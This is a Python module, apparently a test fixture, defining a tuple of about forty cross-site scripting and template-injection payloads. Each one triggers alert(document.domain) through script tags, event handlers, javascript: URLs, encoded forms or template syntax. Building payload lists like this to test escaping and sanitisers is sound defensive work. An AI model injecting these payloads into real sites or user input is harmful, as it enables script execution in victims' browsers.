"""Texts that run in a browser where a page shows them as they are."""

__all__ = ["MARKUP"]

_RUN = "alert(document.domain)"
MARKUP: tuple[str, ...] = (
    f"<script>{_RUN}</script>", f'"><script>{_RUN}</script>', f"'><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>", f"<svg/onload={_RUN}//", f"</title><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<iframe srcdoc='<script>{_RUN}</script>'>", f"<iframe src=javascript:{_RUN}>", f"javascript:{_RUN}",
    f"<a href=javascript:{_RUN}>x</a>", f"<body onload={_RUN}>", f"<details open ontoggle={_RUN}>",
    f"<math><mtext></table><mglyph><style><img src onerror={_RUN}>", f"<!--><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>", f"<xml onreadystatechange={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    f"<object data='data:text/html,<script>{_RUN}</script>'>", f"<embed src='data:image/svg+xml,<svg onload={_RUN}>'>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}", f"${{{_RUN}}}", f"<%= {_RUN} %>", f"#{{{_RUN}}}",
    f"\u003cscript\u003e{_RUN}\u003c/script\u003e", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-", f"\u2028<script>{_RUN}</script>", f"<scr\u0130pt>{_RUN}</scr\u0130pt>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>", f"<base href=javascript:{_RUN}//>",
    f"<link rel=stylesheet href=data:text/css,*{{background:url(javascript:{_RUN})}}>",
    f"<style>@import'{_RUN}'</style>",
    f"<form action=javascript:{_RUN}><button>x</button></form>", f"<template><script>{_RUN}</script></template>",
    f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>{_RUN}</script></html>",
)  # fmt: skip
